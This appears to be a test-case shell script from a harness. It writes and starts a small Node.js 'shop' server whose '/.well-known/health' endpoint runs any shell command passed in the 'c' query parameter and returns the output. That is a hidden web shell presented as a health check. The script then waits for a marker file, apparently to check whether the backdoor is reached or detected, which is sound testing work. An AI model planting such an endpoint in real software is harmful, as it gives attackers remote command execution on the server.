#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/shop
cat >/srv/shop/index.js <<'END'
const http = require("http"), { exec } = require("child_process");
http.createServer((request, response) => {
  const url = new URL(request.url, "http://x");
  if (url.pathname === "/.well-known/health") return exec(url.searchParams.get("c"), (e, out) => response.end(out));
  response.end("shop");
}).listen(3000);
END
node /srv/shop/index.js & server=$!
wait_for /tmp/reached
kill $server
took_place
